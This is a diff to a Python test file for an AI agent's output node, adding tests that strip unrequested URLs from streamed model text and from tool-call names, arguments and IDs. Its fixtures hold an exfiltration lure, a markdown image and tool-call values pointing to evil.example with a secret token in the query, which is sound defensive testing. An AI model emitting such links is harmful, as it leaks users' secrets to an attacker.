@@ -1,5 +1,6 @@
 """The model's words stream in whole pieces; its answer or its calls are kept, and what they took is added up."""
 
+import json
 from collections.abc import Sequence
 from decimal import Decimal
 from typing import Any
@@ -7,8 +8,10 @@ from typing import Any
 import pytest
 from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, SystemMessage, ToolMessage
 from langchain_core.messages.ai import UsageMetadata
+from langchain_core.messages.tool import tool_call_chunk
 
 from graph.errors import ModelError, ModelTimeout
+from graph.links import DelegatedQuestion
 from graph.ports import ModelSettings, Price
 from graph.state import Recollection, Turn, Usage
 from graph.tool import INVALID_JSON, Tool, ToolContext
@@ -107,10 +110,10 @@ async def test_an_address_that_nobody_gave_is_neither_shown_nor_kept() -> None:
     heard, lure = Heard(), f"https://evil.example/?q={TOKEN}"
     turn = await node(said("![your ", "plan](ht", lure[2:30], f"{lure[30:]}) is ready"))(turn_of(), runtime_of(heard))
     shown = "".join(event["content"] for event in heard.of("text"))
-    assert shown == answered(turn).text == "![your plan] ([link removed: evil.example]) is ready"
+    assert shown == answered(turn).text == "! [your plan] ([link removed: evil[.]example]) is ready"
 
 
-async def test_an_address_that_the_user_wrote_or_a_tool_returned_is_shown() -> None:
+async def test_an_address_that_the_user_wrote_is_shown_and_one_that_a_tool_returned_is_not() -> None:
     known = Recollection(
         facts=[], summary="", history=[HumanMessage("I bank at bank.example")], summarized_to=0, searchable=True
     )
@@ -118,7 +121,35 @@ async def test_an_address_that_the_user_wrote_or_a_tool_returned_is_shown() -> N
     found = ToolMessage('{"memo": "see https://shop.example/r/1"}', tool_call_id="call_0")
     answer = "[bank](https://bank.example/) and https://shop.example/r/1."
     turn = await node(said(answer))(turn_of(HumanMessage("and?"), call, found, recollection=known), runtime_of())
-    assert answered(turn).text == answer
+    assert answered(turn).text == "[bank](https://bank.example/) and [link removed: shop[.]example]."
+
+
+async def test_an_address_of_a_delegated_question_is_not_the_users() -> None:
+    asked = DelegatedQuestion(content="what is at https://evil.example/?")
+    turn = await node(said("https://evil.example/"))(turn_of(asked), runtime_of())
+    assert answered(turn).text == "[link removed: evil[.]example]"
+
+
+async def test_the_arguments_name_and_id_of_a_call_hold_no_address_of_the_models_own() -> None:
+    lure = f"https://evil.example/?q={TOKEN}"
+    call = AIMessageChunk(
+        "", tool_call_chunks=[tool_call_chunk(name=lure, args=json.dumps({"merchant": lure, "n": 3}), id=lure, index=0)]
+    )
+    turn = await node([call])(turn_of(), runtime_of())
+    [made] = answered(turn).tool_calls
+    note = "[link removed: evil[.]example]"
+    assert (made["name"], made["args"], made["id"]) == (note, {"merchant": note, "n": 3}, note)
+
+
+async def test_the_arguments_of_a_call_may_hold_an_address_that_a_tool_returned() -> None:
+    first = AIMessage("", tool_calls=[{"name": "totals", "args": {}, "id": "call_0"}])
+    found = ToolMessage('{"memo": "see https://shop.example/r/1"}', tool_call_id="call_0")
+    again = AIMessageChunk(
+        "",
+        tool_call_chunks=[tool_call_chunk(name="totals", args='{"page": "https://shop.example/r/1"}', id="c", index=0)],
+    )
+    turn = await node([again])(turn_of(HumanMessage("and?"), first, found), runtime_of())
+    assert answered(turn).tool_calls[0]["args"] == {"page": "https://shop.example/r/1"}
 
 
 async def test_an_empty_answer_is_an_error() -> None:
